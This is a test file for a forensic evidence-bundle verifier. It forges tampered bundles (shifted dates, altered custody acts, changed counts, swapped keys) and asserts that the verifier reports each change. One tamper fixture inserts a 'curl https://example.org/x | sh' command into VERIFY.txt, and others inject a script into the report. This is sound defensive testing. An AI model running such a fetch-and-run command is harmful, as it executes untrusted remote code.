import fs from "node:fs";
import path from "node:path";
import { beforeAll, describe, expect, test } from "vitest";
import { parsePrivateKey } from "../../../../main/bundle/signature/ssh-key.ts";
import { verifyBag } from "../../../../main/bundle/verify/bag/verify-bag.ts";
import { verify } from "../../../../main/bundle/verify/verify.ts";
import { given } from "../../../../shared/base/given.ts";
import { privateKeyText } from "../fixture.ts";
import { changed, examiner, forged, type Payload, signedBundle } from "../signed-bundle.ts";

/** What is changed, by which check it must be named, and what of it the sentence must say. */
type Row = [name: string, change: (payload: Payload) => void, check: string, says: RegExp];

let root: string;
let withOriginals: string;
beforeAll(async () => {
  root = await signedBundle();
  withOriginals = await signedBundle({ originals: true });
});

async function checksOf(folder: string) {
  return verify(folder, { recompute: true, signer: examiner.publicKey.line });
}

/** check:large forges the bundle with its originals too. */
const isEveryKind = process.env.EXHIBIT_EVERY_KIND === "yes";

/** Named where the examiner seals it again; without that the digests name it, whatever it is. */
async function expectNamed([name, change, check, says]: Row, from = root): Promise<void> {
  const { checks } = await verifyBag(changed(from, change));
  expect(checks.filter(({ ok }) => ok === false).map((each) => each.check)).toContainEqual(
    expect.stringMatching(/^(?:manifest|tagmanifest)$/u),
  );
  await expectForgedNamed([name, change, check, says], from);
  if (isEveryKind && from === root) await expectForgedNamed([name, change, check, says], withOriginals);
}

async function expectForgedNamed([, change, check, says]: Row, from: string): Promise<void> {
  const verdict = await checksOf(await forged(from, change));
  expect(verdict.verdict).toBe("broken");
  const named = verdict.checks.find((each) => each.check === check);
  expect(named, JSON.stringify(verdict.checks)).toMatchObject({ ok: false });
  expect(named?.detail).toMatch(says);
}

test("taken apart and sealed again without a change, it holds", async () => {
  const { verdict, checks } = await checksOf(await forged(root, () => {}));
  expect(checks.filter(({ ok }) => ok === false)).toEqual([]);
  expect(verdict).toBe("verified");
  expect(checks.find(({ check }) => check === "dates")).toMatchObject({ how: "compared", code: "dates-right" });
});

describe("dates: nothing is dated before what it rests on", () => {
  test.each<Row>([
    [
      "the bundle, before its acts",
      (it) =>
        it.json("extract/bundle.json", (about) => {
          about.at = "2019-11-05T00:00:00Z";
        }),
      "dates",
      /^act 1 \(create\) of custody\.jsonl is dated .*, after the bundle, which bundle\.json dates 2019-11-05T00:00:00Z/u,
    ],
    [
      "an act, before the one before it",
      (it) =>
        it.acts((acts) => {
          acts[3].at = "2018-04-04T00:00:00Z";
          return acts;
        }),
      "dates",
      /^act 4 \([a-z ]+\) is dated 2018-04-04T00:00:00Z, before act 3 /u,
    ],
    [
      "an act, without a time",
      (it) =>
        it.acts((acts) => {
          acts[3].at = "in spring";
          return acts;
        }),
      "dates",
      /^act 4 \([a-z ]+\) has no readable time: in spring/u,
    ],
    [
      "a decision, after the act that made it",
      (it) =>
        it.json("extract/bundle.json", (about) => {
          about.decisions[0].at = "2099-01-01T00:00:00Z";
        }),
      "dates",
      /decision 1 \(members, D1\) is dated 2099-01-01T00:00:00Z, after the bundle/u,
    ],
    [
      "a withdrawal, after the bundle",
      (it) =>
        it.json("extract/sources.json", ({ sources }) => {
          sources[2].withdrawn.at = "2099-01-01T00:00:00Z";
        }),
      "dates",
      /sources\.json: the withdrawal of source 3 \(third\.csv\) is dated 2099-01-01T00:00:00Z, after/u,
    ],
    [
      "a receipt, after the act that tells of it",
      (it) =>
        it.json("extract/sources.json", ({ sources }) => {
          sources[0].acquisition.on = "2099-01-01";
        }),
      "dates",
      /sources\.json: that source 1 \(first\.csv\) was received is dated 2099-01-01, after act \d+ \(received\)/u,
    ],
  ])("%s", async (...row) => expectNamed(row));

  test("the day on the bag", async () => {
    const { checks } = await checksOf(await forged(root, () => {}, { date: "2019-11-05" }));
    expect(checks.find(({ check }) => check === "dates")).toMatchObject({
      ok: false,
      detail: expect.stringMatching(/^bag-info\.txt says the day 2019-11-05, bundle\.json 20/u),
    });
  });
});

// biome-ignore-start lint/suspicious/noExplicitAny: the table changes what it likes.
const bundle = (change: (about: any) => void) => (it: Payload) => it.json("extract/bundle.json", change);
const source = (change: (source: any, all: any[]) => void) => (it: Payload) =>
  it.json("extract/sources.json", ({ sources }) => change(sources[0], sources));
const acts = (change: (acts: any[]) => any[] | undefined) => (it: Payload) => it.acts(change);
// biome-ignore-end lint/suspicious/noExplicitAny: as above.
const without = (name: string) => acts((all) => all.filter(({ act }) => act !== name));

describe("pages: what people read is what the extract gives, byte for byte", () => {
  const page = (name: string, change: (text: string) => string) => (it: Payload) => it.page(name, change);
  test.each<[name: string, change: (payload: Payload) => void, says: RegExp]>([
    [
      "a number in the report",
      page("data/index.html", (text) =>
        text.replace("<b>1</b> developers with 1 apps", "<b>9</b> developers with 9 apps"),
      ),
      /data\/index\.html line \d+ is not what the extract gives/u,
    ],
    [
      "a script in the report",
      page("data/index.html", (text) => text.replace("</h1>", "</h1><script>document.title = 1</script>")),
      /data\/index\.html line \d+ is not/u,
    ],
    [
      "a command in VERIFY.txt",
      page("VERIFY.txt", (text) =>
        text.replace("$ sha256sum -c manifest", "$ curl https://example.org/x | sh; sha256sum -c manifest"),
      ),
      /^VERIFY\.txt line \d+ is not/u,
    ],
    [
      "another key in VERIFY.txt",
      page("VERIFY.txt", (text) => text.replace(examiner.publicKey.fingerprint, `SHA256:${"A".repeat(43)}`)),
      /^VERIFY\.txt line \d+ is not/u,
    ],
    [
      "where OPEN.html leads",
      page("OPEN.html", (text) => text.replace('href="data/index.html"', 'href="https://example.org/"')),
      /^OPEN\.html line \d+ is not/u,
    ],
    [
      "a line more in bag-info.txt",
      page("bag-info.txt", (text) => `${text}Source-Organization: The Court\n`),
      /^bag-info\.txt line \d+ is not/u,
    ],
    ["the report taken away", (it) => it.remove("index.html"), /data\/index\.html is not there/u],
    [
      "a script beside the report",
      (it) => it.add("viewer/app.js", "document.title = 1;\n"),
      /files that this version makes of no extract: data\/viewer\/app\.js/u,
    ],
    [
      "a report nobody made",
      (it) => it.page("data/report.pdf", () => "%PDF-1.7\n"),
      /data\/report\.pdf is not what the extract gives/u,
    ],
    [
      "a report for Word with another number",
      (it) => it.page("data/report.docx", (bytes) => bytes.replace(/.$/su, "x")),
      /data\/report\.docx is not what the extract gives/u,
    ],
    [
      "a declaration nobody drew up",
      (it) => it.add("legal/declaration.txt", "I declare\n"),
      /files that this version makes of no extract: data\/legal\/declaration\.txt/u,
    ],
    [
      "a file of the layout that no check looks at",
      (it) => it.add("extract/commitments.jsonl", "{}\n"),
      /files that this version makes of no extract: data\/extract\/commitments\.jsonl/u,
    ],
  ])("%s", async (name, change, says) => expectNamed([name, change, "pages", says]));

  test("of another version nothing is said: it makes other pages", async () => {
    const folder = await forged(root, (it) => {
      it.acts((all) => {
        all.at(-1).detail.software = "Exhibit 9.9.9";
      });
      it.json("extract/bundle.json", (about) => {
        about.software = "Exhibit 9.9.9";
      });
    });
    const { checks } = await checksOf(folder);
    expect(checks.find(({ check }) => check === "pages")).toMatchObject({
      ok: null,
      code: "pages-of-another-version",
      detail: expect.stringMatching(/^the pages are made by Exhibit 9\.9\.9; Exhibit \S+ makes others/u),
    });
  });
});

describe("structure: the payload is a closed list", () => {
  test.each<[name: string, change: (payload: Payload) => void, says: RegExp]>([
    ["a file more in data", (it) => it.add("notes.txt", "x"), /layout of a bundle does not name: data\/notes\.txt/u],
    [
      "a file more in the extract",
      (it) => it.add("extract/people.json", "[]"),
      /does not name: data\/extract\/people\.json/u,
    ],
    [
      "a file more among the lines",
      (it) => it.add("extract/lines/all.txt", "x"),
      /does not name: data\/extract\/lines\/all\.txt/u,
    ],
    [
      "an original nobody named",
      (it) => it.add("originals/9-x.csv", "x"),
      /bundle\.json does not name: data\/originals\/9-x\.csv/u,
    ],
    ["a letter nobody named", (it) => it.add("attachments/letter.pdf", "x"), /attachments whose digest no entry/u],
  ])("%s", async (name, change, says) => expectNamed([name, change, "structure", says]));
});

/** A key that is not the examiner's. */
const other = parsePrivateKey(privateKeyText(Buffer.alloc(32, 9))).publicKey;
const OTHER = { key: other.line, fingerprint: other.fingerprint };

describe("signature: by the key that custody names", () => {
  const signatureOf = async (folder: string, signer?: string) =>
    (await verify(folder, given({ signer }))).checks.find(({ check }) => check === "signature");

  test("it is, and by which act", async () => {
    expect(await signatureOf(root)).toMatchObject({
      ok: true,
      code: "signature-valid",
      detail: expect.stringMatching(/; it is the one that act \d+ \(signer\) of custody names$/u),
    });
  });

  test("another is named, in the act and in the bundle's own: that is said whatever key is given, and on the page", async () => {
    const folder = await forged(
      root,
      acts((all) => {
        all.find(({ act }) => act === "signer").detail.signer = OTHER;
        all.at(-1).detail.key_named = OTHER.fingerprint;
        return all;
      }),
    );
    const detail = expect.stringMatching(/which is not the one that act \d+ \(signer\) of custody names, SHA256:/u);
    expect(await signatureOf(folder)).toMatchObject({ ok: true, code: "signature-not-named", detail });
    expect(await signatureOf(folder, examiner.publicKey.line)).toMatchObject({
      ok: true,
      code: "signer-confirmed-not-named",
      detail,
    });
    expect(fs.readFileSync(path.join(folder, "data/index.html"), "utf8")).toMatch(
      /which is not the one that act \d+ \(signer\) of the case/u,
    );
  });

  test("no act names one", async () => {
    const folder = await forged(root, without("signer"));
    expect(await signatureOf(folder)).toMatchObject({
      code: "signature-valid",
      detail: expect.stringMatching(/; no act of custody names a key$/u),
    });
  });
});

describe("custody: what acts did is as they say, and nothing is without its act", () => {
  test.each<[name: string, change: (payload: Payload) => void, says: RegExp]>([
    [
      "an import taken out",
      acts((all) => all.filter(({ act, detail }) => act !== "import" || detail.source !== 2)),
      /source 2 \(second\.csv\) has no act/u,
    ],
    ["the first act", acts((all) => all.slice(1)), /does not begin with the act create/u],
    [
      "the case's title",
      bundle((about) => (about.title = "Another")),
      /the title is Another, and in act 1 \(create\) Test/u,
    ],
    [
      "the examiner",
      bundle((about) => (about.examiner = "X <x@example.org>")),
      /the examiner is .*X <x@example\.org>/u,
    ],
    ["who made it", bundle((about) => (about.made_by = "X")), /made_by is X, and in act \d+ \(bundle\)/u],
    ["the case", bundle((about) => (about.case = "00000000")), /the case is 00000000/u],
    ["the software", bundle((about) => (about.software = "Exhibit 9.9.9")), /software is "Exhibit 9\.9\.9"/u],
    ["the number", bundle((about) => (about.number = 7)), /number is 7/u],
    ["as of", bundle((about) => (about.as_of = "2019-01-01T00:00:00Z")), /as_of is "2019-01-01T00:00:00Z"/u],
    [
      "the time",
      bundle((about) => (about.at = "2099-01-01T00:00:00Z")),
      /is dated 2099-01-01T00:00:00Z, and act \d+ \(bundle\)/u,
    ],
    ["a reason to select", bundle((about) => about.selected.pop()), /selected has \d items/u],
    [
      "a filter of the selection",
      bundle((about) => (about.selected[0].filter = "level:obtained")),
      /selected\[0\]\.filter is "level:obtained"/u,
    ],
    ["what was left out", bundle((about) => (about.left_out += 5)), /left_out is/u],
    ["calls apart", bundle((about) => (about.apart[0].failed += 5)), /apart\[0\]\.failed is/u],
    ["its own act", acts((all) => all.slice(0, -1)), /does not end with the act bundle/u],
    [
      "its own act's key",
      acts((all) => {
        all.at(-1).detail.key = "SHA256:x";
        return all;
      }),
      /names the key SHA256:.*, and act \d+ \(bundle\) SHA256:x/u,
    ],
    [
      "a bundle's act deleted",
      acts((all) => all.filter(({ act, detail }) => act !== "bundle" || detail.number !== 1)),
      /act \d+ \(seal\) is of the bundle test-1, number 1, which no act before it began/u,
    ],
    [
      "a number used twice",
      acts((all) => {
        all.find(({ act }) => act === "bundle").detail.number = 2;
        return all;
      }),
      /act \d+ \(bundle\) bears the number 2, and 0 bundles were begun before it/u,
    ],
    [
      "a bundle sealed twice",
      acts((all) =>
        all.toSpliced(
          -1,
          0,
          all.find(({ act }) => act === "seal"),
        ),
      ),
      /act \d+ \(seal\) seals the bundle test-1, which act \d+ \(seal\) has sealed/u,
    ],
    [
      "a seal of another bundle",
      acts((all) => {
        all.find(({ act }) => act === "seal").detail.name = "other-1";
        return all;
      }),
      /act \d+ \(seal\) is of the bundle other-1, number 1, which no act before it began/u,
    ],
    [
      "the key that an act names",
      acts((all) => {
        all.find(({ act }) => act === "signer").detail.signer.fingerprint = "SHA256:x";
        return all;
      }),
      /act \d+ \(signer\) names the key SHA256:x, and the key that it holds is another one/u,
    ],
    [
      "another key named, whole",
      acts((all) => {
        all.find(({ act }) => act === "signer").detail.signer = OTHER;
        return all;
      }),
      /act \d+ \(bundle\) says that custody names no key instead of the key that signed it, SHA256:.*, and the acts before it name SHA256:/u,
    ],
    [
      "another key in the first act alone",
      acts((all) => {
        all[0].detail.signer = { key: "ssh-ed25519 AAAA", fingerprint: OTHER.fingerprint };
        return all;
      }),
      /act 1 \(create\) names the key SHA256:/u,
    ],
    [
      "a claim",
      bundle((about) => (about.claims.claims[0].value = 99)),
      /the claims are not those that act \d+ \(claims\)/u,
    ],
    ["claims deleted", bundle((about) => (about.claims = null)), /the claims are not those/u],
    ["claims without their act", without("claims"), /bundle\.json has claims, and no act tells of them/u],
    [
      "a dismissed finding confirmed",
      bundle((about) => (about.decisions[0].disposition = "confirmed")),
      /decision 1: disposition is confirmed, and in act \d+ \(finding\) dismissed/u,
    ],
    ["a reason", bundle((about) => (about.decisions[0].reason = "guilty")), /decision 1: reason is guilty/u],
    ["who decided", bundle((about) => (about.decisions[0].by = "X")), /decision 1: by is X/u],
    [
      "when it was decided",
      bundle((about) => (about.decisions[1].at = about.decisions[0].at.replace("20", "19"))),
      /decision 2 is not what act \d+ \(finding\) made it/u,
    ],
    [
      "a decision deleted",
      bundle((about) => about.decisions.pop()),
      /lacks the decision on D2 that act \d+ \(finding\)/u,
    ],
    ["decisions without acts", without("finding"), /decision 1 \(members, D1\) has no act/u],
    [
      "the policy",
      (it) => it.text("extract/policy.json", (text) => text.replace("2018-04-04", "2018-04-06")),
      /policy\.json is not what act \d+ \(policy\) took/u,
    ],
    [
      "the rules that its act names",
      acts((all) => {
        all.find(({ act }) => act === "policy").detail.rules = ["others"];
        return all;
      }),
      /policy\.json: rules\[0\] is "members", worked out "others" from act \d+ \(policy\)/u,
    ],
    [
      "of which file it is told how it came",
      acts((all) => {
        all.findLast(({ act }) => act === "received").detail.sha256 = "1".repeat(64);
        return all;
      }),
      /source 1 .*: sha256 is [0-9a-f]{64}, and in act \d+ \(received\) 1+/u,
    ],
    ["a policy without its act", without("policy"), /policy\.json is there, and no act tells of it/u],
    [
      "the registry",
      (it) => it.text("extract/registry.json", (text) => text.replace("2018-06", "2018-04")),
      /registry\.json is not what act \d+ \(registry\) made it/u,
    ],
    ["a registry without its act", without("registry"), /registry\.json has rows, and no act tells of them/u],
    [
      "a source's digest",
      source((it) => (it.sha256 = "0".repeat(64))),
      /source 1 \(first\.csv\): sha256 is "0+", and in act \d+ \(import\)/u,
    ],
    [
      "a source's name",
      source((it) => (it.file = "other.csv")),
      /source 1 \(other\.csv\): file is "other\.csv", and in act/u,
    ],
    ["a source's bytes", source((it) => (it.bytes += 1)), /source 1 .*: bytes is/u],
    ["a source's records", source((it) => (it.events += 1)), /source 1 .*: events is 4, and in act \d+ \(import\) 3/u],
    ["a source's ambiguous times", source((it) => (it.ambiguous_times += 1)), /source 1 .*: ambiguous_times is 1/u],
    ["a source's broken text", source((it) => (it.broken_text += 1)), /source 1 .*: broken_text is 1/u],
    [
      "why records were rejected",
      source((it) => it.reject_reasons.push({ reason: "no time", records: 1, lines: 1 })),
      /source 1 .*: rejects and reject_reasons are not those of act \d+ \(import\)/u,
    ],
    [
      "a rejected record",
      source((it) => it.rejects.push({ line: 2, reason: "no time" })),
      /source 1 .*: rejects and reject_reasons are not those of act \d+ \(import\)/u,
    ],
    [
      "where a source's original lies",
      source((it) => (it.reference = { path: "/elsewhere/first.csv" })),
      /source 1 .*: reference\.path is "\/elsewhere\/first\.csv", and in act \d+ \(import\) absent/u,
    ],
    [
      "when a source was withdrawn",
      source((_, all) => (all[2].withdrawn.at = all[2].withdrawn.at.replace(/^20/u, "19"))),
      /source 3 .* is withdrawn on 19.*, and in act \d+ \(withdraw\) on 20/u,
    ],
    ["the build", bundle((about) => (about.build = "0".repeat(64))), /build is "0+"/u],
    ["a source's rejected records", source((it) => (it.rejected += 1)), /source 1 .*: rejected is/u],
    [
      "a source's ledger",
      source((it) => (it.line_ledger = { events: 2, rejected: 1, skipped: 1 })),
      /source 1 .*: line_ledger\.events is/u,
    ],
    ["a source's format", source((it) => (it.format = "jsonl")), /source 1 .*: format is/u],
    ["a source's encoding", source((it) => (it.encoding = "windows-1252")), /source 1 .*: encoding is/u],
    ["a source's zone", source((it) => (it.timezone = "Europe/Berlin")), /source 1 .*: timezone is/u],
    ["where a source's zone is from", source((it) => (it.timezone_from = "option")), /source 1 .*: timezone_from is/u],
    ["a source's zone data", source((it) => (it.zone_data = "1999a")), /source 1 .*: zone_data is "1999a"/u],
    [
      "a source's mapping",
      source((it) => (it.mapping.timezone = "Asia/Tokyo")),
      /source 1 .*: its mapping is not the one of act \d+ \(import\)/u,
    ],
    ["a source's span", source((it) => (it.first = "2018-04-04T10:00:00Z")), /source 1 .*: first is/u],
    [
      "a source deleted",
      source((_, all) => all.pop()),
      /lacks source 3 \(third\.csv\), which act \d+ \(import\) made/u,
    ],
    ["a source invented", source((it, all) => all.push({ ...it, source: 4 })), /source 4 \(first\.csv\) has no act/u],
    [
      "a withdrawal undone",
      source((_, all) => delete all[2].withdrawn),
      /source 3 .* counts, and act \d+ \(withdraw\) withdrew it/u,
    ],
    [
      "a withdrawal's reason",
      source((_, all) => (all[2].withdrawn.reason = "empty")),
      /source 3 .* is withdrawn for empty, and in act/u,
    ],
    ["who withdrew", source((_, all) => (all[2].withdrawn.by = "X")), /source 3 .* is withdrawn by X, and in act/u],
    [
      "a withdrawal invented",
      source((it) => (it.withdrawn = { reason: "r", at: "2020-01-01T00:00:00Z", by: "X" })),
      /source 1 .* is withdrawn, and no act tells of it/u,
    ],
    [
      "from whom a source came",
      source((it) => (it.acquisition.from = "C. Marsh")),
      /source 1 .*: acquisition\.from is "C\. Marsh", and in act \d+ \(received\) "A\. Marsh"/u,
    ],
    [
      "when a source came",
      source((it) => (it.acquisition.on = "2019-11-05")),
      /source 1 .*: acquisition\.on is "2019-11-05", and in act \d+ \(received\) "2019-11-06"/u,
    ],
    [
      "by which medium",
      source((it) => (it.acquisition.medium = "mail")),
      /source 1 .*: acquisition\.medium is "mail"/u,
    ],
    ["by which method", source((it) => (it.acquisition.method = "x")), /source 1 .*: acquisition\.method is "x"/u],
    ["a seal", source((it) => (it.acquisition.seal = "0443")), /source 1 .*: acquisition\.seal is "0443"/u],
    [
      "a producer's digest",
      source((it) => (it.acquisition.digest = "1".repeat(64))),
      /source 1 .*: acquisition\.digest is "1+"/u,
    ],
    [
      "that a producer's digest matches",
      source((it) => (it.acquisition.digest_matches = true)),
      /source 1 .*: acquisition\.digest_matches is true, and in act \d+ \(received\) false/u,
    ],
    [
      "that a producer's digest matches, and its act",
      (it) => {
        source((each) => (each.acquisition.digest_matches = true))(it);
        acts((all) => {
          all.findLast(({ act }) => act === "received").detail.digest_matches = true;
          return all;
        })(it);
      },
      /source 1 .*: acquisition\.digest_matches is true, and the digest stated is 0+, the file's [0-9a-f]{64}/u,
    ],
    [
      "how a source came, deleted",
      source((it) => delete it.acquisition),
      /source 1 .*: acquisition is absent, and in act \d+ \(received\)/u,
    ],
    [
      "how a source came, invented",
      source((it, all) => (all[2].acquisition = it.acquisition)),
      /source 3 .*: it says how it came, and no act tells of it/u,
    ],
    [
      "the newer word of how a source came",
      (it) => {
        source((each) => {
          each.acquisition.from = "B. Marsh";
          delete each.acquisition.digest;
          delete each.acquisition.digest_matches;
        })(it);
      },
      /source 1 .*: acquisition\.from is "B\. Marsh", and in act \d+ \(received\) "A\. Marsh"/u,
    ],
    [
      "the word of a source that is not",
      acts((all) => {
        all.findLast(({ act }) => act === "received").detail.source = 9;
        return all;
      }),
      /act \d+ \(received\) tells of source 9 \(first\.csv\), which no act imported/u,
    ],
    [
      "a tag taken off",
      (it) => it.text("extract/events.jsonl", (text) => text.replace('"tags":["context"]', '"x":1')),
      /source 2 with the tag context are not those that act \d+ \(tag\) left/u,
    ],
    [
      "another tag",
      (it) => it.text("extract/events.jsonl", (text) => text.replace('"tags":["context"]', '"tags":["fine"]')),
      /source 2 with the tag fine have no act/u,
    ],
    [
      "a note's words",
      (it) => it.text("extract/events.jsonl", (text) => text.replace("both of them", "none of them")),
      /source 1 with the note none of them have no act/u,
    ],
  ])("%s", async (name, change, says) => expectNamed([name, change, "custody", says]));

  test("who stands on the bag", async () => {
    const { checks } = await checksOf(await forged(root, () => {}, { info: { "Contact-Name": "X" } }));
    const detail = expect.stringMatching(/^bag-info\.txt: Contact-Name is X, and in bundle\.json/u);
    expect(checks.find(({ check }) => check === "custody")).toMatchObject({ ok: false, detail });
  });

  test("a bundle that calls itself one of an older version", async () => {
    const { verdict, checks } = await checksOf(
      await forged(
        root,
        bundle((about) => (about.schema = "exhibit/bundle@1")),
      ),
    );
    expect(verdict).toBe("broken");
    expect(checks.find(({ check }) => check === "custody")).toMatchObject({ ok: false, code: "bundle-not-older" });
  });

  test("acts of an older version hold no digests: what they made is compared by its words, and the rest said to be on trust", async () => {
    const { checks } = await checksOf(
      await forged(
        root,
        acts((all) => {
          for (const { detail } of all)
            for (const key of ["digests", "read_sha256", "mapping_sha256"]) delete detail[key];
          return all;
        }),
      ),
    );
    expect(checks.filter(({ ok }) => ok === false)).toEqual([]);
    expect(checks.find(({ check }) => check === "custody")).toMatchObject({
      ok: true,
      how: "on-trust",
      code: "chain-in-part-on-trust",
    });
  });
});

describe("custody: of a dossier what stands there whole is compared too", () => {
  let dossier: string;
  beforeAll(async () => {
    dossier = await signedBundle({ developer: "D2" });
  });
  test.each<[name: string, change: (payload: Payload) => void, says: RegExp]>([
    [
      "the policy",
      (it) => it.text("extract/policy.json", (text) => text.replace("2018-04-04", "2018-04-06")),
      /policy\.json is not what act \d+ \(policy\) took/u,
    ],
    [
      "another developer",
      (it) => it.json("extract/registry.json", ({ developers }) => developers.push({ developer_id: "D9" })),
      /registry\.json has the developer D9, whose dossier this is not/u,
    ],
  ])("%s", async (name, change, says) => expectNamed([name, change, "custody", says], dossier));

  test("what is due about the case, put in where a dossier has none", async () => {
    const change = (it: Payload) => it.json("extract/clocks.json", (document) => (document.facts.discovered = "D9"));
    await expectNamed(["", change, "recompute", /clocks\.json: facts\.discovered is "D9"/u], dossier);
  });
});

/** index.csv without the record of a line; those behind it in its file move up. */
function withoutRecord(text: string, file: string, line: number): string {
  const [head = "", ...rows] = text.trimEnd().split("\n");
  let gone = 0;
  const kept = rows.flatMap((row) => {
    const [name, at, source, ...place] = row.split(",");
    if (name !== file) return [row];
    if (Number(place[0]) !== line) return [[name, Number(at) - gone, source, ...place].join(",")];
    gone = Number(place[2]) + 1;
    return [];
  });
  return `${[head, ...kept].join("\n")}\n`;
}

describe("selection: what was chosen and left out adds up, and is what the filters say", () => {
  const hours = (change: (text: string) => string) => (it: Payload) => it.text("extract/hours.csv", change);
  test.each<[name: string, change: (payload: Payload) => void, says: RegExp]>([
    [
      "denied calls dropped",
      (it) => {
        it.text("extract/events.jsonl", (text) => text.replace(/^.*"outcome":"denied".*\n/mu, ""));
        it.text("extract/events.csv", (text) => text.replace(/^.*,denied,.*\r?\n/mu, ""));
        it.text("extract/lines/source-2.txt", (text) => text.replace(/^.*,403,.*\n/mu, ""));
        it.text("extract/lines/index.csv", (text) => withoutRecord(text, "source-2.txt", 3));
        bundle((about) => {
          about.events -= 1;
          about.left_out += 1;
        })(it);
      },
      /the filter outcome:denied \(denied calls\) says 1 events, the bundle holds/u,
    ],
    [
      "denied calls no longer asked for, in the act too",
      (it) => {
        const others = ({ filter }: { filter: string }) => filter !== "outcome:denied";
        bundle((about) => (about.selected = about.selected.filter(others)))(it);
        acts((all) => {
          all.at(-1).detail.selected = all.at(-1).detail.selected.filter(others);
          return all;
        })(it);
      },
      /bundle\.json: nothing is selected by outcome:denied, as in every bundle/u,
    ],
    [
      "an hour twice",
      hours((text) => text.replace(/\n(.*),1,0\n/u, "\n$1,500,0\n$1,1,0\n")),
      /^hours\.csv is not written as a bundle writes it/u,
    ],
    [
      "another count",
      bundle((about) => {
        about.selected[0].events += 1;
      }),
      /the filter level:attempted\+ \(.*\) says \d+ events, the bundle holds \d+ of them/u,
    ],
    [
      "another count of tags",
      bundle((about) => {
        about.selected.find(({ filter }: { filter: string }) => filter === "tag:*").events = 40;
      }),
      /the filter tag:\* \(tagged\) says 40 events, the bundle holds 3 of them/u,
    ],
    [
      "a filter that is none",
      bundle((about) => {
        about.selected[0].filter = "level:(";
      }),
      /the filter level:\( .* cannot be asked/u,
    ],
    [
      "left out",
      bundle((about) => {
        about.left_out += 1;
      }),
      /^bundle\.json: \d events and \d left out are not the \d of its sources/u,
    ],
    [
      "hours invented",
      hours((text) => `${text}1,"groups",2018-05-01T00:00:00Z,5,0\n`),
      /hours\.csv has 8 events of source 1 \(first\.csv\), sources\.json 3/u,
    ],
    [
      "hours moved",
      hours((text) => text.replace("2018-04-05T10", "2018-04-05T11")),
      /hours\.csv has 0 events .* in the hour 2018-04-05T10:00:00Z of source 1, API groups, the bundle itself 1/u,
    ],
    [
      "calls called duplicates",
      hours((text) => text.replace(/,1,0\n/u, ",0,1\n")),
      /hours\.csv has 1 duplicates of source 1/u,
    ],
    [
      "hours of a source that is not",
      hours((text) => `${text}9,"groups",2018-05-01T00:00:00Z,5,0\n`),
      /hours of source 9, which sources\.json has not/u,
    ],
    [
      "hours of a withdrawn source",
      hours((text) => `${text}3,"groups",2018-05-01T00:00:00Z,1,0\n`),
      /hours\.csv has 1 events of source 3 \(third\.csv\), sources\.json none that count/u,
    ],
  ])("%s", async (name, change, says) => expectNamed([name, change, "selection", says]));
});

describe("counts: the rows are each other's, and the findings count them", () => {
  const row = (name: string, change: (text: string) => string) => (it: Payload) => it.text(`extract/${name}`, change);
  const lineOf = (text: string, pattern: RegExp) => pattern.exec(text)?.[0] ?? "";
  test.each<[name: string, change: (payload: Payload) => void, says: RegExp]>([
    [
      "a cell of the table",
      row("events.csv", (text) => text.replace(",403,denied,", ",200,allowed,")),
      /^events\.csv row \d+ is not the event of events\.jsonl line \d+/u,
    ],
    [
      "a level in the table",
      row("events.csv", (text) => text.replace(",members,obtained,yes,", ",members,possible,yes,")),
      /findings\.json: rule members has \d+ possible calls of D\d, events\.csv \d+/u,
    ],
    [
      "a call that counts and is said not to",
      row("events.csv", (text) => text.replace(",members,obtained,yes,", ",members,obtained,,")),
      /events\.csv row \d+: its rules, levels and whether it counts do not fit together/u,
    ],
    [
      "a row of the table dropped",
      row("events.csv", (text) => text.replace(/^.*,403,denied,.*\r?\n/mu, "")),
      /^events\.csv row \d+ is not the event/u,
    ],
    [
      "a row more in the table",
      row("events.csv", (text) => `${text}${lineOf(text, /^1,.*\n/mu)}`),
      /^events\.csv has more rows than the \d+ events/u,
    ],
    [
      "two calls in another order",
      row("events.jsonl", (text) => text.replace(/^(.*\n)(.*\n)/u, "$2$1")),
      /events\.jsonl line 2 is dated 2018-04-03T10:00:00Z, before the line above it/u,
    ],
    [
      "a call dropped from the rows alone",
      row("events.jsonl", (text) => text.replace(/^.*"outcome":"denied".*\n/mu, "")),
      /^events\.jsonl has \d events, bundle\.json says \d/u,
    ],
    [
      "a place dropped from the index",
      row("lines/index.csv", (text) => text.replace(/^source-2\.txt,.*\n/mu, "")),
      /lines\/index\.csv line \d is not the place of the call at offset \d+ of source 2/u,
    ],
    [
      "a place within another record",
      row("lines/index.csv", (text) => text.replace(/^(source-2\.txt,.*\nsource-2\.txt),(\d+),/mu, "$1,30,")),
      /lines\/index\.csv line \d has its record at 30, within another/u,
    ],
    [
      "a finding's calls",
      (it) =>
        it.json("extract/findings.json", ({ rules }) => {
          rules[0].developers[0].obtained.events += 500;
        }),
      /findings\.json: rule members has 50\d obtained calls of D\d, events\.csv \d/u,
    ],
    [
      "a developer more",
      (it) =>
        it.json("extract/findings.json", ({ rules }) => {
          rules[0].developers.push({ ...rules[0].developers[0], developer_id: "D9" });
        }),
      /rule members has \d obtained calls of D9, events\.csv 0/u,
    ],
    [
      "a developer deleted",
      (it) =>
        it.json("extract/findings.json", ({ rules }) => {
          rules[0].developers.shift();
        }),
      /events\.csv has \d \w+ calls of D\d under rule members, findings\.json none/u,
    ],
    [
      "lines of no call",
      (it) => it.add("extract/lines/source-7.txt", "x\n"),
      /lines\/source-7\.txt holds lines of no call/u,
    ],
    [
      "a name twice in a document",
      row("findings.json", (text) => text.replace("{\n", '{\n "rules": [],\n')),
      /^findings\.json is not written as a bundle writes it/u,
    ],
    [
      "a name twice in a call",
      row("events.jsonl", (text) => text.replace("{", '{"app":"x",')),
      /events\.jsonl line 1 is not written as a bundle writes it/u,
    ],
    [
      "an empty line among the calls",
      row("events.jsonl", (text) => text.replace("\n", "\n\n")),
      /events\.jsonl has an empty line behind its line 1/u,
    ],
    [
      "an empty line among the acts",
      row("custody.jsonl", (text) => `${text}\n`),
      /^custody\.jsonl is not written as a case writes it/u,
    ],
    ["a word more in bundle.json", bundle((about) => (about.seen_by = "X")), /^bundle\.json has seen_by, which no/u],
    [
      "a word more in a decision",
      bundle((about) => (about.decisions[0].seen_by = "X")),
      /^bundle\.json: decision 1 has seen_by, which no/u,
    ],
    ["a word more of a source", source((it) => (it.seen_by = "X")), /^sources\.json: source 1 has seen_by, which no/u],
    [
      "a word more in claims.json",
      (it) => it.json("extract/claims.json", (document) => (document.seen_by = "X")),
      /^claims\.json has seen_by, which no/u,
    ],
    [
      "a word more in an act",
      acts((all) => {
        all[2].seen_by = "X";
        return all;
      }),
      /^act 3 of custody\.jsonl has seen_by, which no/u,
    ],
  ])("%s", async (name, change, says) => expectNamed([name, change, "counts", says]));
});

